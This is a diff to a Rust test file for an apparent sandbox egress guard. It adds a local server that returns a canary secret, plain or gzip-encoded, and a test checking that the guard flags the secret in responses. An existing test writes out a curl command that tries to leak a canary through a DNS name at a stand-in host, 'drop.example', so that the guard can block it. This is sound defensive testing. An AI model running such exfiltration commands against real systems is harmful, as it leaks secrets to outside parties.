@@ -2,6 +2,9 @@
 //! way, and whatever sends one is stopped and raises an alarm.
 
 use std::fs;
+use std::io::{Read, Write};
+use std::net::{Ipv4Addr, TcpListener};
+use std::thread;
 
 use outgate_harness::audit::{of_kind, records, text};
 use outgate_harness::{Identity, Lab, Sandbox, lab_tests};
@@ -102,7 +105,75 @@ fn attempt(lab: &Lab, thief: &Recorder, options: &[(&str, &str)], (name, way): (
     );
 }
 
+/// An origin that has what lies in a file, on a way that nobody saw, and sends it
+/// back as the path says. It ends with the test's process.
+fn giver(file: std::path::PathBuf) {
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, crate::PORT)).expect("a port");
+    thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut head = Vec::new();
+            while !head.ends_with(b"\r\n\r\n") {
+                let mut byte = [0];
+                stream.read_exact(&mut byte).expect("a head");
+                head.push(byte[0]);
+            }
+            let head = String::from_utf8_lossy(&head).into_owned();
+            let canary = fs::read_to_string(&file).unwrap_or_default();
+            let said = if head.contains("/other") {
+                "nothing"
+            } else {
+                canary.trim()
+            };
+            let around = "some text around it. ".repeat(2000);
+            let content = format!("{around}{said}{around}").into_bytes();
+            let (content, coding) = match head.split(' ').nth(1) {
+                Some("/plain") => (content, "identity"),
+                Some("/twice") => (gzip(&gzip(&content)), "gzip, gzip"),
+                _ => (gzip(&content), "gzip"),
+            };
+            let head = format!(
+                "HTTP/1.1 200 OK\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                content.len(),
+            );
+            stream.write_all(head.as_bytes()).expect("a client");
+            for piece in content.chunks(100) {
+                stream.write_all(piece).expect("a client");
+                stream.flush().expect("a client");
+            }
+        }
+    });
+}
+
+fn gzip(bytes: &[u8]) -> Vec<u8> {
+    let piped = || std::process::Stdio::piped();
+    let mut command = std::process::Command::new("gzip");
+    let mut child = command
+        .stdin(piped())
+        .stdout(piped())
+        .spawn()
+        .expect("gzip");
+    let mut input = child.stdin.take().expect("its input");
+    input.write_all(bytes).expect("its input");
+    drop(input);
+    child.wait_with_output().expect("gzip").stdout
+}
+
 lab_tests! {
+    fn a_canary_that_comes_back_is_seen_through_its_coding(lab) {
+        let file = lab.folder("work", Identity::Own).join("taken");
+        giver(file.clone());
+        for (path, alarms) in [("plain", true), ("gzip", true), ("twice", true), ("other", false)] {
+            fs::remove_file(&file).ok();
+            let file = file.display();
+            let script = format!("{SEARCH} printf %s \"$C\" > {file}; curl -sS $URL/{path} | wc -c");
+            let outcome = sandbox(lab).run(&bash(&script));
+            assert_eq!(outcome.code, Some(0), "{path}: {outcome}");
+            assert_ne!(outcome.stdout.trim(), "0", "{path}: nothing is held back: {outcome}");
+            let alarm = "content of a response holds a canary";
+            assert_eq!(outcome.stderr.contains(alarm), alarms, "{path}: {outcome}");
+        }
+    }
+
     fn a_canary_leaves_in_no_form_and_raises_an_alarm(lab) {
         let thief = thief();
         for way in WAYS {
@@ -115,7 +186,7 @@ lab_tests! {
     }
 
     fn no_name_is_asked_for_that_holds_a_canary(lab) {
-        let names = outgate_harness::names::Names::start(vec![std::net::Ipv4Addr::LOCALHOST]);
+        let names = outgate_harness::names::Names::start(vec![Ipv4Addr::LOCALHOST]);
         let script = format!("{SEARCH} curl -sS --max-time 5 http://$C.drop.example:8099/");
         let outcome = sandbox(lab).allow("http://*.drop.example:8099").run(&bash(&script));
         assert_ne!(outcome.code, Some(0), "{outcome}");
